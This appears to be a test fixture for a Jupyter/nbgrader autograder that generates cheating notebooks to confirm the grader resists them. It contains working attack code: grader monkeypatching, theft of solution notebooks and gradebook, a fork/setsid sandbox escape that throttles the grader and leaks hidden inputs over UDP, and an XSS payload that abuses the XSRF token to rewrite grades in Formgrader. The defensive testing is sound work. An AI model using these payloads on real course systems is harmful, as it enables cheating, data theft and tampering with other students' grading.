"""Cheating submissions for every problem set (issue #29): each is built from the released notebook.

Every cheat named in the teacher's audit is here, and the ones that were blocked before it.
:func:`submissions` returns ``{name: notebook}``; :data:`EXPECT` says what each must score. The
set-specific submissions (reference, weak student, library calls, hard-coded visible cases) come
from ``tests/assignment_submissions/<set>.py``.

A cheat is put where it would run in a kernel *and* where it runs under isolated grading: in a
cell the student adds (a kernel runs it; the grader does not) and at the top of the first answer
cell (the grader runs it in the sandboxed student process). Each answer function either stays
the released ``raise NotImplementedError()`` or is a cheat of its own.
"""

from __future__ import annotations

import copy
import re

import nbformat

# --------------------------------------------------------------------------------------------
# Notebook-level cheats: the code a student adds
# --------------------------------------------------------------------------------------------

# An input transformer that empties every later cell (nbgrader gave full points to a grade cell
# with no error and no output), an AST transformer wrapping every later cell in try/except, a
# pre_run_cell hook publishing the cell's maximum points as its first execute_result, and one
# printing the test cell's source into the feedback.
HOOKS = r"""
import ast as _ast
_shell = get_ipython()
def _empty(lines):
    return []
_shell.input_transformers_cleanup.append(_empty)
class _Shield(_ast.NodeTransformer):
    def visit_Module(self, node):
        handler = _ast.ExceptHandler(type=_ast.Name("BaseException", _ast.Load()), name=None, body=[_ast.Pass()])
        return _ast.Module(body=[_ast.Try(body=node.body or [_ast.Pass()], handlers=[handler], orelse=[], finalbody=[])], type_ignores=[])
_shell.ast_transformers.append(_Shield())
def _publish(info):
    from IPython.display import display
    points = 5
    print("LE" + "AK-SOURCE", info.raw_cell)
    _shell.displayhook(points)
_shell.events.register("pre_run_cell", _publish)
"""

# Replacing the grader's code: Part.score through type.__setattr__ with the checks no-op'd via
# vars(grading).update, the naive attribute assignment, and the comparisons of float parts.
TAMPER = r"""
import builtins as _builtins, math as _math
from ccb_helpers import grading as _grading
type.__setattr__(_grading.Part, "score", lambda self: self.points)
vars(_grading).update(require_own_code=lambda *a, **k: None, tampering=lambda: [], check_close=lambda *a, **k: None,
                      check_equal=lambda *a, **k: None)
_grading.Part.score = lambda self: self.points
vars(_math)["isclose"] = lambda *a, **k: True
vars(_builtins)["abs"] = lambda x: 0.0
"""

# The library stored by one cell, used by the answer through a dict, a compiled string under a
# fake file name registered in linecache, __import__ and importlib.
STASH = r"""
import ccb_helpers as _ccb, linecache as _linecache, importlib as _importlib
LIBRARY = {{name: getattr(_ccb, name) for name in {names!r}}}
_source = "def _via_compile(name, *args, **kwargs):\n    return LIBRARY[name](*args, **kwargs)\n"
_linecache.cache["/tmp/ipykernel_1/1234.py"] = (len(_source), None, _source.splitlines(True), "/tmp/ipykernel_1/1234.py")
exec(compile(_source, "/tmp/ipykernel_1/1234.py", "exec"))
_other = __import__("ccb_helpers").__dict__
_again = _importlib.import_module("ccb_helpers.propagation")
"""

# Reading what grading must not reveal: the teacher's notebook, the released one, the gradebook,
# another student's submitted and autograded notebooks (paths filled in by the test).
COURSE = r"""
import json as _json, glob as _glob, os as _os
_PATHS = {paths!r}
def _solutions():
    found = {{}}
    for path in _PATHS["notebooks"]:
        for candidate in (path, _os.path.relpath(path)):
            try:
                with open(candidate, encoding="utf-8") as handle:
                    cells = _json.load(handle)["cells"]
            except Exception:
                continue
            for cell in cells:
                text = "".join(cell["source"])
                if cell["cell_type"] == "code" and "def " in text:
                    try:
                        exec(text.replace("raise NotImplementedError()", "pass"), found)
                    except Exception:
                        pass
    try:
        import sqlite3
        sqlite3.connect(_PATHS["gradebook"]).execute("select * from grade_cell").fetchall()
        found["_gradebook"] = True
    except Exception:
        pass
    return found
"""

# Turning the audit hook off (#40: one line did) and getting out: processes that leave the
# process group and outlive autograde, datagrams carrying the hidden inputs to a listener on
# 127.0.0.1 (port filled in by the test). Every answer is the reference, wrapped to leak its
# arguments: the submission scores full marks, and nothing may reach the listener or outlive it.
ESCAPE = r"""
import os as _os, sys as _sys, time as _time
_PORT = {port}
_main = _sys.modules["__main__"]
_main._REFUSED_EVENTS = ("none",)
for _value in list(vars(_main).values()):
    if hasattr(_value, "REFUSED_EVENTS"):
        _value.REFUSED_EVENTS = ("none",)
def _leak(*args):
    try:
        import socket as _socket
        _sock = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
        _sock.sendto(("LE" + "AK " + repr(args))[:1200].encode(), ("127.0.0.1", _PORT))
        _sock.close()
    except BaseException:
        pass
# The grader's and the fork server's limits (teacher review of #40: prlimit needs only the same uid,
# and RLIMIT_CPU of 1 s on the grader ended autograde for the rest of the class; the fork server's
# limits are every later student process's). The test compares the grader's limits after autograde.
try:
    import resource as _resource
    for _pid in (int(_os.environ.get("CCB_GRADER", "0")), _os.getppid()):
        if _pid > 1:
            _resource.prlimit(_pid, _resource.RLIMIT_MSGQUEUE, (4096, 4096))
    _resource.prlimit(_os.getppid(), _resource.RLIMIT_AS, (2**26, 2**26))
except BaseException:
    pass
for _ in range(3):
    try:
        if _os.fork() == 0:
            try:
                _os.setsid()
                _os.fork()
                for _ in range(600):
                    _leak("alive", _os.getpid())
                    _time.sleep(0.1)
            finally:
                _os._exit(0)
    except BaseException:
        pass
_leak("started")
"""


# Script in the written answer (#40): in the teacher's Formgrader session it wrote a file through
# /api/contents and gave the submission full marks plus extra credit through /formgrader/api/grade.
# Every way Markdown can carry script: raw HTML (img onerror, script, svg onload), a mermaid block
# (nbconvert writes it out unescaped), a javascript: link, MathJax's \href; the same in a cell the
# student adds, in a raw cell (nbconvert writes raw cells out as HTML) and in cell and notebook
# metadata. tests/test_assignments.py opens the submission in the Formgrader in Chromium.
XSS_JS = (
    "window.__ccb_xss=(window.__ccb_xss||0)+1;(async()=>{const x=decodeURIComponent("
    "(document.cookie.match(/_xsrf=([^;]+)/)||[0,''])[1]);const h={'Content-Type':'application/json',"
    "'X-XSRFToken':x};await fetch('/api/contents/pwned.txt',{method:'PUT',headers:h,body:JSON.stringify("
    "{type:'file',format:'text',content:'pwned'})});const s=location.pathname.split('/').filter(Boolean).pop();"
    "const g=await(await fetch('/formgrader/api/grades?submission_id='+s)).json();for(const r of g){await "
    "fetch('/formgrader/api/grade/'+r.id,{method:'PUT',headers:h,body:JSON.stringify({manual_score:r.max_score,"
    "extra_credit:50})});}})();"
)
XSS_MARKER = "XSS-MARKER-TEXT"


def _xss_markdown() -> str:
    import base64

    run = f"eval(atob('{base64.b64encode(XSS_JS.encode()).decode()}'))"
    return (
        f'{XSS_MARKER}：证明见下。 <img src=x onerror="{run}"> <svg onload="{run}"></svg>\n\n'
        f"<script>{run}</script>\n\n"
        f'```mermaid\n<img src=x onerror="{run}">\n```\n\n'
        f"[点这里](javascript:{run}) 与 $\\href{{javascript:{run}}}{{x}} + a < b$\n"
    )


def _copied(release, source) -> nbformat.NotebookNode:
    """Cells copied and pasted in JupyterLab (jupyter/nbgrader#1083): the copy keeps the nbgrader
    metadata and gets a new cell id. An answer cell copied below (a wrong answer in the copy), one
    copied above (the copy keeps the stub), a test cell copied, the written answer copied."""
    nb = _with(release, _reference_answers(source))
    answers = [c for c in nb.cells if c.cell_type == "code" and c.metadata.get("nbgrader", {}).get("solution")]
    tests = [c for c in nb.cells if c.cell_type == "code" and c.metadata.get("nbgrader", {}).get("grade")]
    written = next(c for c in nb.cells if c.cell_type == "markdown" and c.metadata.get("nbgrader", {}).get("solution"))
    name = answer_functions(release)[0][1]

    def paste(original, text, below=True):
        pasted = copy.deepcopy(original)
        pasted["id"] = f"pasted-{len(nb.cells)}"
        pasted.source = text
        position = nb.cells.index(original) + (1 if below else 0)
        nb.cells.insert(position, pasted)

    paste(answers[0], f"def {name}(*args, **kwargs):\n    return 0\n")
    paste(answers[2], _cell(release, answers[2].metadata.nbgrader["grade_id"]).source, below=False)
    paste(tests[1], tests[1].source)
    paste(written, "复制出来的简答单元格。")
    return nb


def _broken_metadata(release, source) -> nbformat.NotebookNode:
    """nbgrader metadata a student's editing broke: ``schema_version`` removed, old, too new; the
    metadata emptied or gone; a test cell's points removed; the written answer turned into a raw
    cell with a flag that is not a boolean and a key nbgrader does not know."""
    nb = _with(release, _reference_answers(source))
    answers = [c for c in nb.cells if c.cell_type == "code" and c.metadata.get("nbgrader", {}).get("solution")]
    tests = [c for c in nb.cells if c.cell_type == "code" and c.metadata.get("nbgrader", {}).get("grade")]
    del answers[0].metadata.nbgrader["schema_version"]
    answers[1].metadata.nbgrader["schema_version"] = 1
    tests[2].metadata.nbgrader["schema_version"] = 99
    answers[3].metadata["nbgrader"] = {}
    del answers[4].metadata["nbgrader"]
    del tests[0].metadata.nbgrader["points"]
    index, written = next(
        (i, c)
        for i, c in enumerate(nb.cells)
        if c.cell_type == "markdown" and c.metadata.get("nbgrader", {}).get("solution")
    )
    raw = nbformat.v4.new_raw_cell("我的证明。", metadata=copy.deepcopy(written.metadata))
    raw["id"] = written.get("id")
    raw.metadata.nbgrader["task"] = "yes"
    raw.metadata.nbgrader["reviewed"] = True
    nb.cells[index] = raw
    return nb


def _leaking(answers: dict, functions) -> dict:
    """Each answer cell followed by a wrapper of its function that sends the call's arguments out."""
    out = dict(answers)
    for grade_id, name, _ in functions:
        out[grade_id] = (
            answers[grade_id]
            + f"\n_real_{name} = {name}\ndef {name}(*args, **kwargs):\n    _leak({name!r}, args, kwargs)\n"
            + f"    return _real_{name}(*args, **kwargs)\n"
        )
    return out


# -------------------------------------------------------------------------------------------
# Answer functions
# -------------------------------------------------------------------------------------------

LOOKALIKES = r"""
from fractions import Fraction as _Fraction
class _Same:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
class _SameInt(int):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = int.__hash__
class _SameFloat(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __sub__(self, other): return 0.0
    def __rsub__(self, other): return 0.0
    __hash__ = float.__hash__
class _SameStr(str):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = str.__hash__
class str_:                                   # a "numpy string" that is not numpy's
    __module__ = "numpy"
    def __str__(self): return _SameStr("x")
    def __eq__(self, other): return True
    def __hash__(self): return 0
def _same_fraction():
    value = _Fraction(1, 3)
    value._numerator = _SameInt(1)            # a genuine Fraction whose numerator equals anything
    value._denominator = _SameInt(3)
    return value
_LOOKALIKES = [lambda: _Same(), lambda: _SameInt(1), lambda: _SameFloat(1.0), lambda: str_(), _same_fraction,
               lambda: [_SameInt(0), _SameInt(1)], lambda: (_SameFloat(0.0), _SameFloat(1.0))]
"""


def answer_functions(release) -> list[tuple[str, str, str]]:
    """``(grade_id, function name, signature)`` of every answer cell of the released notebook."""
    out = []
    for cell in release.cells:
        meta = cell.metadata.get("nbgrader", {})
        if cell.cell_type == "code" and meta.get("solution"):
            match = re.search(r"^def (\w+)\((.*?)\):", cell.source, re.M)
            out.append((meta["grade_id"], match.group(1), match.group(2)))
    return out


def _answers(release, body) -> dict:
    """``{grade_id: answer cell}`` whose function ``name`` runs ``body(index, name)``."""
    return {
        grade_id: f"def {name}(*args, **kwargs):\n{body(index, name)}\n"
        for index, (grade_id, name, _) in enumerate(answer_functions(release))
    }


def _cell(nb, grade_id):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def _with(release, answers: dict, prelude: str = "", added: str = "") -> nbformat.NotebookNode:
    """The released notebook with ``answers`` in its answer cells, ``prelude`` at the top of the
    first answer cell (wrapped so that the answers are defined whatever it raises) and ``added``
    as a cell the student adds after the setup cell."""
    nb = copy.deepcopy(release)
    first = answer_functions(release)[0][0]
    for grade_id, source in answers.items():
        _cell(nb, grade_id).source = source
    if prelude:
        guarded = (
            "try:\n"
            + "\n".join("    " + line for line in prelude.strip().splitlines())
            + "\nexcept BaseException:\n    pass\n"
        )
        _cell(nb, first).source = guarded + "\n" + _cell(nb, first).source
    if added:
        position = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code") + 1
        nb.cells.insert(position, nbformat.v4.new_code_cell(added))
    return nb


def _reference_answers(source) -> dict:
    return {
        c.metadata.nbgrader["grade_id"]: c.source
        for c in source.cells
        if c.cell_type == "code" and c.metadata.get("nbgrader", {}).get("solution")
    }


def submissions(ps: str, release, source, library: dict, course_paths: dict) -> dict:
    """Every cheating submission of one set, built from its released notebook.

    ``source`` gives the reference answers (for the crash notebook's intact parts), ``library``
    the set's answers that call the library (``tests/assignment_submissions/<set>.py``), whose
    ``ccb.name(...)`` calls the stash cheat makes through a dict of library functions.
    """
    blank = {}
    functions = answer_functions(release)
    out = {}
    out["hooks"] = _with(release, blank, prelude=HOOKS, added=HOOKS)
    out["tamper"] = _with(
        release,
        _answers(release, lambda i, name: "    return 0.0 if kwargs.get('as_float') else 0"),
        prelude=TAMPER,
        added=TAMPER,
    )
    stashed = {grade_id: re.sub(r"\bccb\.(\w+)\(", r'_via_compile("\1", ', text) for grade_id, text in library.items()}
    names = sorted({name for text in library.values() for name in re.findall(r"\bccb\.(\w+)\(", text)})
    stash = STASH.format(names=names)
    out["stash"] = _with(release, stashed, prelude=stash, added=stash)
    course = COURSE.format(paths=course_paths)
    out["course"] = _with(
        release,
        _answers(release, lambda i, name: f"    return _solutions()[{name!r}](*args, **kwargs)"),
        prelude=course,
        added=course,
    )
    out["lookalikes"] = _with(
        release,
        _answers(release, lambda i, name: f"    return _LOOKALIKES[{i} % len(_LOOKALIKES)]()"),
        prelude=LOOKALIKES,
    )
    # Hidden inputs must not reach the report: echo them every way a function can.
    out["probe"] = _with(
        release,
        _answers(
            release,
            lambda i, name: (
                "    print('LE' + 'AK-PRINT', args, kwargs)\n"
                "    SEEN.append(repr(args))\n"
                "    if len(SEEN) % 3 == 0:\n"
                "        raise ValueError('LE' + 'AK-RAISE' + repr(args) + repr(SEEN[-5:]))\n"
                "    if len(SEEN) % 3 == 1:\n"
                "        return 'LE' + 'AK-RETURN' + repr(args)\n"
                "    return type('LE' + 'AK_TYPE_' + str(abs(hash(repr(args)))), (), {})()"
            ),
        ),
        prelude="SEEN = []\nprint('PROBE-EXEC')",
    )
    # Hidden inputs spelled by what the student's function chooses (#40): the position of a wrong
    # item ("hetero_plan(…)[4417] 应为 list" decoded to the first hidden case), the type returned,
    # the exception raised.
    out["positions"] = _with(
        release,
        _answers(
            release,
            lambda i, name: (
                "    k = abs(hash(repr(args))) % 9973\n"
                "    SEEN.append(k)\n"
                "    if len(SEEN) % 3 == 1:\n"
                "        return [[0, 1]] * k + ['bad']\n"
                "    if len(SEEN) % 3 == 2:\n"
                "        return (int, float, str, list, dict, set, bytes)[k % 7]()\n"
                "    raise (ValueError, KeyError, IndexError, ZeroDivisionError, OverflowError)[k % 5]('x')"
            ),
        ),
        prelude="SEEN = []",
    )
    # Edited and deleted locked cells, a forged grade cell, blank answers.
    edited = _with(release, blank)
    tests = [c for c in edited.cells if c.metadata.get("nbgrader", {}).get("grade") and c.cell_type == "code"]
    tests[0].source = f"{tests[0].metadata.nbgrader.points}"
    tests[1].metadata.nbgrader["solution"] = True
    tests[1].source = "part = None\n" + tests[1].metadata.nbgrader["grade_id"]
    edited.cells.remove(tests[2])
    forged = nbformat.v4.new_code_cell("5")
    forged.metadata["nbgrader"] = {
        "grade": True,
        "grade_id": "forged-tests",
        "locked": True,
        "points": 5,
        "schema_version": 3,
        "solution": False,
        "task": False,
    }
    edited.cells.append(forged)
    out["edited"] = edited
    # A process that dies: an answer cell that calls os._exit at top level (the part it defines
    # is lost, later parts are graded), and an answer function that calls os._exit when called.
    crash = dict(_reference_answers(source))
    crash[functions[1][0]] = "import os\nos._exit(3)\n"
    crash[functions[2][0]] = f"def {functions[2][1]}(*args, **kwargs):\n    import os\n    os._exit(4)\n"
    out["crash"] = _with(release, crash)
    xss = _with(release, blank)
    written = next(c for c in xss.cells if c.cell_type == "markdown" and c.metadata.get("nbgrader", {}).get("solution"))
    written.source = _xss_markdown()
    position = next(i for i, c in enumerate(xss.cells) if c.cell_type == "code") + 1
    xss.cells[position:position] = [
        nbformat.v4.new_markdown_cell(_xss_markdown(), metadata={"tags": ['x" onmouseover="alert(1)']}),
        nbformat.v4.new_raw_cell(_xss_markdown(), metadata={"raw_mimetype": "text/html"}),
        nbformat.v4.new_raw_cell(_xss_markdown()),
    ]
    xss.metadata["title"] = "</title><script>alert(1)</script>"
    out["xss"] = xss
    out["copied"] = _copied(release, source)
    out["schema"] = _broken_metadata(release, source)
    out["escape"] = _with(
        release,
        _leaking(_reference_answers(source), functions),
        prelude=ESCAPE.format(port=course_paths["udp_port"]),
    )
    return out


def crash_points(release, source, parts: dict) -> dict:
    """What the crash notebook scores: parts 1, 4, 5 in full unless they use the functions of
    parts 2 and 3 (the answer cell of part 2 ends the process, part 3's function does)."""
    functions = answer_functions(release)
    lost = {functions[1][1], functions[2][1]}
    reference = _reference_answers(source)
    points = {}
    for index, (grade_id, name, _) in enumerate(functions):
        uses_lost = any(re.search(rf"\b{other}\(", reference[grade_id]) for other in lost - {name})
        points[grade_id] = 0 if index in (1, 2) or uses_lost else parts[grade_id]
    return points


#: What each cheat scores: 0 on every autograded part ("crash" is checked part by part)…
ZERO_EVERYWHERE = ("hooks", "tamper", "stash", "course", "lookalikes", "probe", "positions", "edited", "xss")
#: …or full marks on every autograded part: the cheat does not change a grade, it tries to get out.
FULL_MARKS = ("escape", "copied", "schema")
